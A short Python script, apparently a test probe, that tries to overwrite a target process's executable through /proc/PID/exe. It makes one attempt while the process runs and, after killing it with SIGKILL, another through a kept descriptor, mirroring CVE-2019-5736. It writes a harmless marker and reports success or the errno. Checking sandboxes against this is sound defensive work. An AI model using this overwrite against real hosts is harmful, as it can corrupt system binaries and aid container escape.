#!/usr/bin/env python3
"""Overwrites the program that a process executes, as CVE-2019-5736 did: while it runs, and once
more through a kept descriptor after its end.

usage: overwrite.py PID. Prints two words: WRITTEN or the name of the errno."""

import errno
import os
import select
import signal
import sys

PAYLOAD = b"OVERWRITTEN"


def attempt(path):
    try:
        os.chmod(path, 0o755)
    except OSError:
        pass
    try:
        fd = os.open(path, os.O_WRONLY)
        os.pwrite(fd, PAYLOAD, 0)
        os.close(fd)
        return "WRITTEN"
    except OSError as error:
        return errno.errorcode[error.errno]


pid = int(sys.argv[1])
kept = os.open(f"/proc/{pid}/exe", os.O_PATH)
running = attempt(f"/proc/{pid}/exe")
end = os.pidfd_open(pid)
os.kill(pid, signal.SIGKILL)
select.select([end], [], [], 20)
print(running, attempt(f"/proc/self/fd/{kept}"))
